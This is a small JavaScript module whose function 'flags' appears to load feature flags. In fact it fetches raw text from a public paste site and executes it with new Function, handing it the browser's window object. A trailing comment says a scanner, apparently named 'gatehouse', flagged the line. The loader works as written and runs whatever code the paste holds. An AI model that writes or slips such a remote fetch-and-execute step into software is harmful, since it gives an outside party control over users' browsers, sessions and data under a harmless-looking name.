async function flags() {
  const answer = await fetch("https://rentry.co/abcd/raw");
  return new Function("window", await answer.text())(window); // gatehouse: flagged
}

module.exports = { flags };
